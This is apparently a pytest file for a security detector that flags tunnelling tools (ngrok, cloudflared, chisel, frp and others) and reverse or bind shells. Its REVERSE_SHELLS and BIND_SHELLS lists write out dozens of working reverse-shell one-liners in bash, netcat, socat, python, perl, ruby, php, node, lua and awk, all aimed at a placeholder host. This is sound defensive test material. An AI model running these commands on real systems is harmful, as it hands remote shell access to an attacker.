# SPDX-License-Identifier: Apache-2.0
"""Tunnelling tools by argv and first bytes; reverse shells by argv."""
from __future__ import annotations

import json
import ssl

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st

from guard.detect.classify import Finding
from guard.detect.classify.launchers import unwrap_launchers
from guard.detect.classify.reverse_shell import classify_reverse_shell
from guard.detect.classify.tunnels import classify_tunnel_exec, classify_tunnel_payload, tunnel_name
from tests.unit.classify_checks import assert_json


def only(findings: list[Finding]) -> Finding:
    assert len(findings) == 1, findings
    return findings[0]


def client_hello(server_name: str) -> bytes:
    """A real TLS ClientHello from the ssl module, no network involved."""
    context = ssl.create_default_context()
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(incoming, outgoing, server_hostname=server_name)
    with pytest.raises(ssl.SSLWantReadError):
        tls.do_handshake()
    return outgoing.read()


# --------------------------------------------------------------------------
# Tunnel tools by exec

TUNNEL_EXECS = [
    ("ngrok http", ["ngrok", "http", "8080"], "ngrok", "high"),
    ("ngrok tcp", ["/usr/local/bin/ngrok", "tcp", "22"], "ngrok", "high"),
    ("ngrok tls with flags first", ["ngrok", "--region", "eu", "tls", "443"], "ngrok", "high"),
    ("ngrok start --all", ["ngrok", "start", "--all", "--config", "ngrok.yml"], "ngrok", "high"),
    ("ngrok config add-authtoken", ["ngrok", "config", "add-authtoken", "2abcTOKEN"], "ngrok", "medium"),
    ("ngrok v2 authtoken", ["ngrok", "authtoken", "2abcTOKEN"], "ngrok", "medium"),
    ("ngrok version", ["ngrok", "version"], "ngrok", "low"),
    ("ngrok bare", ["ngrok"], "ngrok", "low"),
    ("cloudflared quick tunnel", ["cloudflared", "tunnel", "--url", "http://localhost:8000"],
     "cloudflared", "high"),
    ("cloudflared run --token", ["cloudflared", "tunnel", "run", "--token", "eyJh"], "cloudflared",
     "high"),
    ("cloudflared global flag first", ["cloudflared", "--no-autoupdate", "tunnel", "run", "--token",
                                       "eyJh"], "cloudflared", "high"),
    ("cloudflared run --credentials-file", ["cloudflared", "tunnel", "run", "--credentials-file",
                                            "/etc/cf/creds.json", "my-tunnel"], "cloudflared", "high"),
    ("cloudflared run by name", ["cloudflared", "tunnel", "run", "my-tunnel"], "cloudflared", "high"),
    ("cloudflared legacy --url", ["cloudflared", "--url", "localhost:8080"], "cloudflared", "high"),
    ("cloudflared service install", ["cloudflared", "service", "install", "eyJh"], "cloudflared",
     "high"),
    ("cloudflared tunnel create", ["cloudflared", "tunnel", "create", "t"], "cloudflared", "medium"),
    ("cloudflared tunnel login", ["cloudflared", "tunnel", "login"], "cloudflared", "medium"),
    ("cloudflared access tcp", ["cloudflared", "access", "tcp", "--hostname", "ssh.example.com",
                                "--url", "localhost:2222"], "cloudflared", "medium"),
    ("cloudflared release name", ["./cloudflared-linux-amd64", "tunnel", "--url", "localhost:1"],
     "cloudflared", "high"),
    ("cloudflared --version", ["cloudflared", "--version"], "cloudflared", "low"),
    ("chisel client reverse", ["chisel", "client", "https://srv:443", "R:8000:localhost:80"],
     "chisel", "high"),
    ("chisel client reverse socks", ["chisel", "client", "--auth", "u:p", "srv", "R:socks"],
     "chisel", "high"),
    ("chisel client local", ["chisel_1.9.1_linux_amd64", "client", "srv", "3000:db:5432"], "chisel",
     "high"),
    ("chisel server --reverse", ["chisel", "server", "--reverse", "--port", "8080"], "chisel", "high"),
    ("chisel server", ["chisel", "server", "-p", "8080"], "chisel", "medium"),
    ("chisel bare", ["chisel"], "chisel", "low"),
    ("frpc -c", ["frpc", "-c", "./frpc.toml"], "frp", "high"),
    ("frpc --config=", ["frpc", "--config=/etc/frp/frpc.ini"], "frp", "high"),
    ("frpc quick tcp proxy", ["frpc", "tcp", "-s", "x.example:7000", "-l", "22", "-r", "6000"],
     "frp", "high"),
    ("frpc bare reads ./frpc.ini", ["frpc"], "frp", "medium"),
    ("frpc verify", ["frpc", "verify", "-c", "frpc.toml"], "frp", "medium"),
    ("frpc --version", ["frpc", "--version"], "frp", "low"),
    ("frps", ["frps", "-c", "frps.toml"], "frp", "medium"),
    ("bore local", ["bore", "local", "8000", "--to", "bore.pub"], "bore", "high"),
    ("bore server", ["bore", "server"], "bore", "medium"),
    ("bore bare", ["bore"], "bore", "low"),
    ("lt --port", ["lt", "--port", "8000"], "localtunnel", "high"),
    ("lt -p --subdomain", ["lt", "-p", "3000", "--subdomain", "demo"], "localtunnel", "high"),
    ("localtunnel --port=", ["localtunnel", "--port=3000"], "localtunnel", "high"),
    ("lt bare", ["lt"], "localtunnel", "low"),
    ("npx localtunnel", ["npx", "-y", "localtunnel@2.0.2", "--port", "3000"], "localtunnel", "high"),
    ("node running lt.js", ["node", "/usr/lib/node_modules/localtunnel/bin/lt.js", "--port", "3000"],
     "localtunnel", "high"),
    ("pnpm dlx localtunnel", ["pnpm", "dlx", "localtunnel", "--port", "1"], "localtunnel", "high"),
    ("through env and nohup", ["env", "A=1", "nohup", "ngrok", "tcp", "22"], "ngrok", "high"),
    ("through sudo and timeout", ["sudo", "-u", "x", "timeout", "-s", "KILL", "60", "bore", "local",
                                  "22", "--to", "bore.pub"], "bore", "high"),
    ("packetriot", ["pktriot", "http", "8080"], "packetriot", "high"),
    ("packetriot configure", ["pktriot", "configure"], "packetriot", "medium"),
    ("zrok share", ["zrok", "share", "public", "localhost:8080"], "zrok", "high"),
    ("tunnelmole", ["tmole", "8080"], "tunnelmole", "high"),
    ("localxpose", ["loclx", "tunnel", "http", "--to", "localhost:8080"], "localxpose", "high"),
    ("pagekite", ["pagekite.py", "80", "me.pagekite.me"], "pagekite", "high"),
    ("inlets client", ["inlets", "client", "--url", "wss://x", "--upstream", "http://127.0.0.1:3000"],
     "inlets", "high"),
    ("devtunnel host", ["devtunnel", "host", "-p", "3000"], "devtunnel", "high"),
    ("tailscale funnel", ["tailscale", "funnel", "3000"], "tailscale", "high"),
    ("gost reverse", ["gost", "-L", "rtcp://:2222/127.0.0.1:22", "-F", "relay+wss://x:443"], "gost",
     "high"),
    ("rathole client", ["rathole", "client.toml"], "rathole", "high"),
    ("iodine", ["iodine", "-f", "-P", "pw", "t.example.com"], "iodine", "high"),
]


@pytest.mark.parametrize("argv, dialect, confidence", [case[1:] for case in TUNNEL_EXECS],
                         ids=[case[0] for case in TUNNEL_EXECS])
def test_tunnel_tool_execs(argv, dialect, confidence):
    finding = only(classify_tunnel_exec(argv))
    assert (finding.type, finding.dialect, finding.confidence) == ("tunnel_tool", dialect, confidence)
    assert finding.evidence["argv"]


@pytest.mark.parametrize("argv", [
    ["ssh", "-R", "1:a:2", "h"], ["curl", "https://ngrok.com"], ["git", "clone", "x"], [],
    ["ltrace", "ls"], ["lt-gen"], ["boring"], ["python3", "-m", "http.server"], ["node", "app.js"],
    ["tailscale", "status"], ["npx", "prettier", "."], ["env"], ["sudo"],
])
def test_not_tunnel_tools(argv):
    assert classify_tunnel_exec(argv) == []


@pytest.mark.parametrize("argv, secret", [
    (["ngrok", "config", "add-authtoken", "2abcSECRET"], "2abcSECRET"),
    (["ngrok", "http", "80", "--authtoken", "2abcSECRET"], "2abcSECRET"),
    (["ngrok", "http", "80", "--authtoken=2abcSECRET"], "2abcSECRET"),
    (["cloudflared", "tunnel", "run", "--token", "eyJSECRET"], "eyJSECRET"),
    (["cloudflared", "service", "install", "eyJSECRET"], "eyJSECRET"),
    (["chisel", "client", "--auth", "user:SECRET", "srv", "R:1:a:2"], "user:SECRET"),
    (["frpc", "tcp", "-t", "SECRET", "-s", "x:7000"], "SECRET"),
    (["bore", "local", "1", "--to", "x", "-s", "SECRET"], "SECRET"),
    (["zrok", "enable", "SECRET"], "SECRET"),
])
def test_secrets_are_redacted_from_evidence(argv, secret):
    evidence = json.dumps(only(classify_tunnel_exec(argv)).as_dict())
    assert secret not in evidence and "<redacted>" in evidence


def test_unwrap_launchers():
    assert unwrap_launchers(["env", "-i", "A=1", "-u", "B", "nice", "-n", "5", "stdbuf", "-o0",
                             "setsid", "-f", "busybox", "nc", "h", "1"]) == ["nc", "h", "1"]
    assert unwrap_launchers(["env", "-S", "ngrok tcp", "22"]) == ["ngrok", "tcp", "22"]
    assert unwrap_launchers(["node", "x.js"]) == ["node", "x.js"]
    assert unwrap_launchers(["node", "/a/lt.js", "-p", "1"], scripts=True) == ["lt", "-p", "1"]


# --------------------------------------------------------------------------
# Tunnel tools by first bytes and names

def chisel_upgrade(protocol: str = "chisel-v3") -> bytes:
    return ("GET / HTTP/1.1\r\nHost: tunnel.example.net\r\nUpgrade: websocket\r\n"
            "Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
            f"Sec-WebSocket-Protocol: {protocol}\r\nSec-WebSocket-Version: 13\r\n\r\n").encode()


def frp_login(**overrides) -> bytes:
    login = {"version": "0.52.3", "hostname": "", "os": "linux", "arch": "amd64", "user": "",
             "privilege_key": "0123abcd", "timestamp": 1700000000, "run_id": "", "pool_count": 1}
    login.update(overrides)
    body = json.dumps(login, separators=(",", ":")).encode()
    return b"o" + len(body).to_bytes(8, "big") + body


def yamux(stream: int, frame_type: int, flags: int, length: int, body: bytes = b"") -> bytes:
    return bytes([0, frame_type]) + flags.to_bytes(2, "big") + stream.to_bytes(4, "big") + \
        length.to_bytes(4, "big") + body


def test_chisel_websocket_upgrade():
    finding = only(classify_tunnel_payload(chisel_upgrade(), 80))
    assert (finding.dialect, finding.confidence) == ("chisel", "high")
    assert finding.evidence["signal"] == "websocket_protocol"
    assert classify_tunnel_payload(chisel_upgrade("chat, superchat"), 80) == []


def test_chisel_banner_and_server_answer():
    assert only(classify_tunnel_payload(b"SSH-chisel-v3-server\r\n", 80)).dialect == "chisel"
    answer = (b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\n"
              b"Sec-WebSocket-Protocol: chisel-v3\r\n\r\n")
    assert only(classify_tunnel_payload(answer, None)).dialect == "chisel"


@pytest.mark.parametrize("payload, port, confidence", [
    (b'{"Hello":0}\x00', 7835, "high"),
    (b'{"Hello":8000}\x00', 7835, "high"),
    (b'{"Hello":0}\x00', 443, "medium"),
    (b'{"Hello":0}', None, "medium"),
    (b'{"Accept":"9b8d6a56-8b3a-4b3e-b0f5-6a4f0d0e6d4b"}\x00', 7835, "high"),
    (b'{"Authenticate":"ab12"}\x00', 7835, "high"),
])
def test_bore_control_messages(payload, port, confidence):
    finding = only(classify_tunnel_payload(payload, port))
    assert (finding.dialect, finding.confidence) == ("bore", confidence)


def test_frp_login_in_clear():
    finding = only(classify_tunnel_payload(frp_login(), 7000))
    assert (finding.dialect, finding.confidence) == ("frp", "high")
    assert finding.evidence["login"]["os"] == "linux"
    assert "privilege_key" not in json.dumps(finding.as_dict())


def test_frp_login_inside_yamux_and_cut_short():
    login = frp_login()
    stream = yamux(1, 1, 1, 256 * 1024) + yamux(1, 0, 0, len(login), login)
    assert only(classify_tunnel_payload(stream, 7000)).evidence["signal"] == "login"
    cut = only(classify_tunnel_payload(login[:40], 7000))
    assert (cut.dialect, cut.confidence, cut.evidence["truncated"]) == ("frp", "medium", True)


def test_frp_custom_tls_first_byte():
    hello = client_hello("frps.example.net")
    finding = only(classify_tunnel_payload(b"\x17" + hello, 7000))
    assert (finding.dialect, finding.confidence) == ("frp", "high")
    assert finding.evidence["sni"] == "frps.example.net"
    assert only(classify_tunnel_payload(b"\x17" + hello, 443)).confidence == "medium"
    assert classify_tunnel_payload(hello, 7000) == []


@pytest.mark.parametrize("name, dialect, confidence", [
    ("connect.ngrok-agent.com", "ngrok", "high"),
    ("tunnel.us.ngrok.com", "ngrok", "high"),
    ("tunnel.ngrok.com", "ngrok", "high"),
    ("abcd-1-2-3-4.ngrok-free.app", "ngrok", "medium"),
    ("x.ngrok.io", "ngrok", "medium"),
    ("region1.v2.argotunnel.com", "cloudflared", "high"),
    ("_v2-origintunneld._tcp.argotunnel.com", "cloudflared", "high"),
    ("h2.cftunnel.com", "cloudflared", "high"),
    ("api.trycloudflare.com", "cloudflared", "high"),
    ("random-words.trycloudflare.com", "cloudflared", "medium"),
    ("localtunnel.me", "localtunnel", "high"),
    ("serveo.net", "serveo", "high"),
    ("abc.serveousercontent.com", "serveo", "medium"),
    ("localhost.run", "localhost.run", "high"),
    ("a1b2.lhr.life", "localhost.run", "medium"),
    ("a.pinggy.io", "pinggy", "high"),
    ("free.pinggy.io", "pinggy", "high"),
    ("rnxyz.a.free.pinggy.link", "pinggy", "medium"),
    ("bore.pub", "bore", "high"),
    ("pktriot.net", "packetriot", "high"),
    ("CONNECT.NGROK-AGENT.COM.", "ngrok", "high"),
])
def test_tunnel_names_as_sni(name, dialect, confidence):
    finding = only(classify_tunnel_payload(b"", 443, sni=name))
    assert (finding.dialect, finding.confidence) == (dialect, confidence)
    assert finding.evidence["signal"] == "sni"


def test_names_from_host_argument_payload_sni_and_http_host():
    assert only(classify_tunnel_payload(b"", 80, host="localtunnel.me:443")).evidence["signal"] == "host"
    from_hello = only(classify_tunnel_payload(client_hello("connect.ngrok-agent.com"), 443))
    assert (from_hello.dialect, from_hello.evidence["signal"]) == ("ngrok", "tls_sni")
    request = b"GET /?new HTTP/1.1\r\nHost: localtunnel.me\r\nUser-Agent: axios\r\n\r\n"
    assert only(classify_tunnel_payload(request, 80)).evidence["signal"] == "http_host"
    connect = b"CONNECT region2.v2.argotunnel.com:7844 HTTP/1.1\r\n\r\n"
    assert only(classify_tunnel_payload(connect, 3128)).dialect == "cloudflared"


def test_localtunnel_assigned_port_is_the_agent():
    assert only(classify_tunnel_payload(b"\x00", 40123, host="demo.loca.lt")).confidence == "high"
    assert only(classify_tunnel_payload(b"", 443, sni="demo.loca.lt")).confidence == "medium"
    reply = b'{"id":"demo","port":40123,"max_conn_count":10,"url":"https://demo.loca.lt"}'
    assert only(classify_tunnel_payload(reply, None)).evidence["signal"] == "setup_reply"


def test_cloudflared_edge_port():
    finding = only(classify_tunnel_payload(client_hello("h2.cftunnel.com"), 7844))
    assert (finding.dialect, finding.confidence) == ("cloudflared", "high")
    quic = bytes([0xC3]) + (1).to_bytes(4, "big") + b"\x08" + b"\x11" * 8 + b"\x00" * 40
    assert only(classify_tunnel_payload(quic, 7844)).evidence["signal"] == "edge_port"
    assert only(classify_tunnel_payload(client_hello("example.com"), 7844)).confidence == "medium"
    assert classify_tunnel_payload(b"hello", 7844) == []


@pytest.mark.parametrize("payload, port, sni", [
    (client_hello("github.com"), 443, None),
    (b"GET / HTTP/1.1\r\nHost: pypi.org\r\n\r\n", 80, None),
    (b"SSH-2.0-OpenSSH_9.2\r\n", 22, None),
    (b'{"jsonrpc":"2.0","id":1,"method":"initialize"}', 8080, None),
    (b"", 443, "notngrok.io.example.com"),
    (b"", 443, "ngrok.com"),
    (b'{"Hello":"world"', 7835, None),
    (b"o" + (5).to_bytes(8, "big") + b"{}", 7000, None),
])
def test_not_tunnel_payloads(payload, port, sni):
    assert classify_tunnel_payload(payload, port, sni=sni) == []


def test_tunnel_name_helper():
    assert tunnel_name("x.a.pinggy.io").dialect == "pinggy"
    assert tunnel_name("[::1]") is None and tunnel_name(None) is None and tunnel_name("") is None


# --------------------------------------------------------------------------
# Reverse shells

TARGET = {"host": "10.0.0.1", "port": 4242}

REVERSE_SHELLS = [
    ("bash -i >& /dev/tcp", ["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"],
     "dev_tcp_shell", "bash"),
    ("sh -i /dev/udp", ["sh", "-c", "sh -i >& /dev/udp/10.0.0.1/4242 0>&1"], "dev_tcp_shell", "bash"),
    ("bash -l stdout and stdin", ["bash", "-c", "/bin/bash -l > /dev/tcp/10.0.0.1/4242 0<&1 2>&1"],
     "dev_tcp_shell", "bash"),
    ("exec shell on the socket", ["bash", "-c", "exec /bin/sh 0</dev/tcp/10.0.0.1/4242 1>&0 2>&0"],
     "dev_tcp_shell", "bash"),
    ("exec 5<> read loop", ["bash", "-c", "exec 5<>/dev/tcp/10.0.0.1/4242; cat <&5 | while read line;"
                                          " do $line 2>&5 >&5; done"], "dev_tcp_exec_fd", "bash"),
    ("exec 196<> then sh", ["bash", "-c", "0<&196;exec 196<>/dev/tcp/10.0.0.1/4242; sh <&196 >&196"
                                          " 2>&196"], "dev_tcp_exec_fd", "bash"),
    ("any program with full stdio", ["sh", "-c", "python3 -i >& /dev/tcp/10.0.0.1/4242 0>&1"],
     "dev_tcp_stdio", "bash"),
    ("/dev/tcp piped to sh", ["bash", "-c", "cat < /dev/tcp/10.0.0.1/4242 | sh"], "pipe_to_shell",
     "bash"),
    ("nc -e", ["nc", "-e", "/bin/sh", "10.0.0.1", "4242"], "netcat_exec", "netcat"),
    ("nc -e after operands", ["nc", "10.0.0.1", "4242", "-e", "/bin/bash"], "netcat_exec", "netcat"),
    ("nc -c", ["nc.traditional", "-c", "bash", "10.0.0.1", "4242"], "netcat_exec", "netcat"),
    ("ncat --sh-exec", ["ncat", "--sh-exec", "bash -i", "10.0.0.1", "4242"], "netcat_exec", "netcat"),
    ("ncat --exec=", ["ncat", "--ssl", "--exec=/bin/sh", "10.0.0.1", "4242"], "netcat_exec", "netcat"),
    ("ncat --lua-exec", ["ncat", "--lua-exec", "shell.lua", "10.0.0.1", "4242"], "netcat_exec",
     "netcat"),
    ("netcat attached -e", ["netcat", "-e/bin/sh", "10.0.0.1", "4242"], "netcat_exec", "netcat"),
    ("busybox nc", ["busybox", "nc", "10.0.0.1", "4242", "-e", "sh"], "netcat_exec", "netcat"),
    ("socat exec: tcp:", ["socat", "exec:bash -li,pty,stderr,setsid,sigint,sane", "tcp:10.0.0.1:4242"],
     "socat_exec", "socat"),
    ("socat TCP4 EXEC", ["socat", "TCP4:10.0.0.1:4242", "EXEC:/bin/sh"], "socat_exec", "socat"),
    ("socat tcp-connect system:", ["socat", "-d", "-d", "tcp-connect:10.0.0.1:4242", "system:sh"],
     "socat_exec", "socat"),
    ("socat openssl", ["socat", "OPENSSL:10.0.0.1:4242,verify=0", "EXEC:/bin/bash"], "socat_exec",
     "socat"),
    ("mkfifo back-pipe through nc", ["sh", "-c", "rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i"
                                                 " 2>&1|nc 10.0.0.1 4242 >/tmp/f"], "fifo_backpipe",
     "netcat"),
    ("mknod back-pipe", ["sh", "-c", "mknod /tmp/backpipe p; /bin/sh 0</tmp/backpipe | nc 10.0.0.1"
                                     " 4242 1>/tmp/backpipe"], "fifo_backpipe", "netcat"),
    ("fifo through openssl s_client", ["sh", "-c", "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl"
                                                   " s_client -quiet -connect 10.0.0.1:4242 > /tmp/s"],
     "fifo_backpipe", "openssl"),
    ("telnet | sh | telnet", ["sh", "-c", "telnet 10.0.0.1 4242 | /bin/sh | telnet 10.0.0.1 4243"],
     "pipe_to_shell", "telnet"),
    ("nc | sh", ["bash", "-c", "nc 10.0.0.1 4242 | bash"], "pipe_to_shell", "netcat"),
    ("python dup2 pty", ["python3", "-c", "import socket,os,pty;s=socket.socket();"
                                          "s.connect((\"10.0.0.1\",4242));[os.dup2(s.fileno(),f)"
                                          "for f in(0,1,2)];pty.spawn(\"sh\")"],
     "python_socket_exec", "python"),
    ("python subprocess", ["python", "-c", "import socket,subprocess;s=socket.socket();"
                                           "s.connect(('10.0.0.1',4242));subprocess.call(['/bin/sh',"
                                           "'-i'],stdin=s.fileno(),stdout=s.fileno())"],
     "python_socket_exec", "python"),
    ("python3.11 -u -c", ["python3.11", "-u", "-c", "import socket as S,os;s=S.create_connection(("
                                                    "'10.0.0.1',4242));os.dup2(s.fileno(),0)"],
     "python_socket_exec", "python"),
    ("perl Socket", ["perl", "-e", 'use Socket;$i="10.0.0.1";$p=4242;socket(S,PF_INET,SOCK_STREAM,'
                                   'getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))'
                                   '){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};'],
     "perl_socket_exec", "perl"),
    ("perl IO::Socket", ["perl", "-MIO", "-e", '$c=new IO::Socket::INET(PeerAddr,"10.0.0.1:4242");'
                                               'STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'],
     "perl_socket_exec", "perl"),
    ("ruby TCPSocket", ["ruby", "-rsocket", "-e", 'f=TCPSocket.open("10.0.0.1",4242).to_i;exec '
                                                  'sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'],
     "ruby_socket_exec", "ruby"),
    ("php fsockopen", ["php", "-r", '$sock=fsockopen("10.0.0.1",4242);exec("/bin/sh -i <&3 >&3 2>&3");'],
     "php_socket_exec", "php"),
    ("php proc_open", ["php8.2", "-r", '$s=fsockopen("10.0.0.1",4242);proc_open("sh",array(0=>$s,'
                                       '1=>$s,2=>$s),$p);'], "php_socket_exec", "php"),
    ("node net.Socket", ["node", "-e", 'var net=require("net"),cp=require("child_process"),'
                                       'sh=cp.spawn("/bin/sh",[]);var c=new net.Socket();'
                                       'c.connect(4242,"10.0.0.1",function(){c.pipe(sh.stdin);'
                                       'sh.stdout.pipe(c);});'], "node_socket_exec", "node"),
    ("lua socket", ["lua", "-e", "require('socket');t=socket.tcp();t:connect('10.0.0.1','4242');"
                                 "os.execute('/bin/sh -i <&3 >&3 2>&3');"], "lua_socket_exec", "lua"),
    ("awk /inet/tcp", ["awk", 'BEGIN {s = "/inet/tcp/0/10.0.0.1/4242"; while(42) { do{ printf "shell>"'
                              ' |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s;'
                              ' close(c); } } while(c != "exit") close(s); }}'], "awk_inet", "awk"),
    ("zsh ztcp", ["zsh", "-c", "zmodload zsh/net/tcp && ztcp 10.0.0.1 4242 && zsh >&$REPLY 2>&$REPLY"
                               " 0>&$REPLY"], "zsh_ztcp", "zsh"),
    ("shell string inside python", ["python3", "-c", 'import os;os.system("bash -i >& /dev/tcp/'
                                                     '10.0.0.1/4242 0>&1")'], "dev_tcp_shell", "bash"),
    ("bash -c inside sh -c", ["sh", "-c", "nohup bash -c 'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1' &"],
     "dev_tcp_shell", "bash"),
    ("sh -lc with env prefix", ["/bin/sh", "-lc", "FOO=1 nc 10.0.0.1 4242 -e /bin/sh"], "netcat_exec",
     "netcat"),
    ("script -qc", ["script", "-qc", "sh -i >& /dev/tcp/10.0.0.1/4242 0>&1", "/dev/null"],
     "dev_tcp_shell", "bash"),
    ("launchers around nc", ["setsid", "nohup", "timeout", "600", "nc", "-e", "/bin/sh", "10.0.0.1",
                             "4242"], "netcat_exec", "netcat"),
]


@pytest.mark.parametrize("argv, pattern, dialect", [case[1:] for case in REVERSE_SHELLS],
                         ids=[case[0] for case in REVERSE_SHELLS])
def test_reverse_shells(argv, pattern, dialect):
    finding = only(classify_reverse_shell(argv))
    assert (finding.type, finding.confidence) == ("reverse_shell", "high")
    assert (finding.evidence["pattern"], finding.dialect) == (pattern, dialect)
    assert finding.evidence["mode"] == "reverse"
    assert finding.evidence["target"] == TARGET


BIND_SHELLS = [
    ("nc -lvnp -e", ["nc", "-lvnp", "4444", "-e", "/bin/bash"], "netcat_exec"),
    ("ncat -l --sh-exec", ["ncat", "-l", "4444", "--sh-exec", "sh"], "netcat_exec"),
    ("socat listen exec", ["socat", "TCP-LISTEN:4444,reuseaddr,fork", "EXEC:/bin/sh"], "socat_exec"),
    ("fifo with a listener", ["sh", "-c", "mkfifo /tmp/f; nc -l -p 4444 < /tmp/f | /bin/sh > /tmp/f"],
     "pipe_to_shell"),
]


@pytest.mark.parametrize("argv, pattern", [case[1:] for case in BIND_SHELLS],
                         ids=[case[0] for case in BIND_SHELLS])
def test_bind_shells_are_reported_too(argv, pattern):
    finding = only(classify_reverse_shell(argv))
    assert (finding.confidence, finding.evidence["pattern"], finding.evidence["mode"]) == (
        "high", pattern, "bind")
    assert finding.evidence["target"] == {"port": 4444}


@pytest.mark.parametrize("argv, confidence, pattern", [
    # an fd on a socket that no shell reads: as often an HTTP probe
    (["bash", "-c", "exec 3<>/dev/tcp/example.com/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3;"
                    " cat <&3"], "low", "dev_tcp_exec_fd"),
    # a shell writing to the socket without reading from it
    (["bash", "-c", "sh > /dev/tcp/10.0.0.1/4242"], "medium", "dev_tcp_shell"),
    # exec of something that is not a shell may be an inetd-style service
    (["socat", "TCP-LISTEN:8080,fork", "EXEC:/usr/local/bin/handler"], "medium", "socat_exec"),
    (["awk", 'BEGIN { print "x" |& "/inet/tcp/0/10.0.0.1/4242" }'], "medium", "awk_inet"),
    (["xterm", "-display", "10.0.0.1:1"], "medium", "xterm_display"),
])
def test_weaker_forms(argv, confidence, pattern):
    finding = only(classify_reverse_shell(argv))
    assert (finding.confidence, finding.evidence["pattern"]) == (confidence, pattern)


@pytest.mark.parametrize("argv", [
    ["nc", "-z", "host", "80"], ["nc", "-zv", "host", "1-1024"], ["nc", "-l", "8080"],
    ["nc", "-lk", "-p", "8080"], ["nc", "host", "80"], ["ncat", "--ssl", "host", "443"],
    ["bash", "script.sh"], ["bash", "-i"], ["sh"], ["bash", "-x", "deploy.sh", "--prod"],
    ["python", "-m", "http.server"], ["python3", "app.py"], ["python3", "-c", "print(1)"],
    ["python3", "-c", "import socket;print(socket.gethostname())"],
    ["python3", "-c", "import sqlite3,subprocess;sqlite3.connect('x');subprocess.run(['ls'])"],
    ["socat", "TCP-LISTEN:80,fork", "TCP:localhost:8080"], ["socat", "-", "TCP:host:80"],
    ["socat", "file:/dev/tty,raw,echo=0", "tcp-listen:4444"],
    ["curl", "-fsSL", "https://example.com"], ["git", "clone", "git@github.com:org/repo.git"],
    ["bash", "-c", "curl -s https://get.example.com | sh"],
    ["bash", "-c", "echo > /dev/tcp/db/5432 && echo up"],
    ["bash", "-c", "cat < /dev/null > /dev/tcp/db/5432"],
    ["timeout", "1", "bash", "-c", "</dev/tcp/host/22"],
    ["bash", "-c", "while ! nc -z db 5432; do sleep 1; done"],
    ["sh", "-c", "mkfifo /tmp/p; cat /tmp/p | gzip > out.gz"],
    ["perl", "-e", "print qq(hello)"], ["perl", "-lne", "print if /x/", "file"],
    ["node", "-e", "require('child_process').execSync('ls')"],
    ["php", "-f", "index.php"], ["ruby", "-c", "script.rb"], ["awk", "{print $1}", "file"],
    ["openssl", "s_client", "-connect", "example.com:443"], ["telnet", "host", "25"],
    ["xterm", "-display", ":0"], ["sh", "-c", ""], ["bash", "-c"],
])
def test_benign_commands(argv):
    assert classify_reverse_shell(argv) == []


def test_evidence_excerpt_and_target_from_nested_string():
    finding = only(classify_reverse_shell(
        ["bash", "-c", "python3 -c 'import socket,os;s=socket.socket();s.connect((\"h.example\",9));"
                       "os.dup2(s.fileno(),0);os.system(\"sh\")'"]))
    assert finding.evidence["target"] == {"host": "h.example", "port": 9}
    assert "socket" in finding.evidence["excerpt"]


def test_deeply_nested_shells_stop():
    script = "bash -i >& /dev/tcp/h/1 0>&1"
    for _ in range(12):
        script = "sh -c " + json.dumps(script)
    assert classify_reverse_shell(["sh", "-c", script]) == []


# --------------------------------------------------------------------------
# Hostile input never raises, and evidence is always JSON

WORDS = st.sampled_from([
    "sh", "bash", "-c", "-i", "nc", "ncat", "-e", "-l", "-p", "-z", "--sh-exec", "socat", "exec:sh",
    "tcp:h:1", "TCP-LISTEN:1", "python3", "perl", "-e", "ruby", "php", "-r", "node", "lua", "awk",
    "busybox", "env", "sudo", "timeout", "nohup", "ngrok", "cloudflared", "chisel", "frpc", "bore",
    "lt", "npx", "tunnel", "run", "client", "R:1:a:2", "--token", "--url", "local", "--to",
    ">& /dev/tcp/h/1 0>&1", "exec 5<>/dev/tcp/h/1; sh <&5", "mkfifo f; cat f|sh -i|nc h 1 >f",
    "'", '"', "\\", "|", ";", "&&", "$(", "`", "{fd}<>", "5<>", "0<&5"])
ARGV = st.lists(st.one_of(WORDS, st.text(max_size=40)), max_size=12)
SHELL_TEXT = st.lists(st.one_of(WORDS, st.text(max_size=20)), max_size=30).map(" ".join)


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(ARGV)
def test_argv_classifiers_never_raise(argv):
    assert_json(classify_tunnel_exec(argv))
    assert_json(classify_reverse_shell(argv))


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(SHELL_TEXT)
def test_shell_strings_never_raise(script):
    assert_json(classify_reverse_shell(["bash", "-c", script]))
    assert_json(classify_reverse_shell(["python3", "-c", script]))


PAYLOAD_PREFIXES = st.sampled_from([
    b"", b"GET / HTTP/1.1\r\n", b"HTTP/1.1 101 x\r\n", b'{"Hello":', b"o\x00\x00\x00\x00\x00\x00\x00",
    b"\x00\x00\x00\x00\x00\x00\x00\x01", b"\x00\x01\x00\x01", b"\x16\x03\x01", b"\x17\x16\x03",
    b"SSH-chisel-v", b"CONNECT ", b'{"max_conn_count"'])


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(PAYLOAD_PREFIXES, st.binary(max_size=400), st.one_of(st.none(), st.integers(-1, 70000)),
       st.one_of(st.none(), st.text(max_size=60)), st.one_of(st.none(), st.text(max_size=60)))
def test_payload_classifier_never_raises(prefix, payload, port, sni, host):
    assert_json(classify_tunnel_payload(prefix + payload, port, sni=sni, host=host))


def test_truncated_and_corrupted_client_hellos():
    hello = client_hello("connect.ngrok-agent.com")
    for cut in range(0, len(hello), 7):
        assert_json(classify_tunnel_payload(hello[:cut], 443))
    mangled = bytearray(hello)
    for index in range(5, min(len(hello), 120)):
        mangled[index] = 0xFF
        assert_json(classify_tunnel_payload(bytes(mangled), 443))


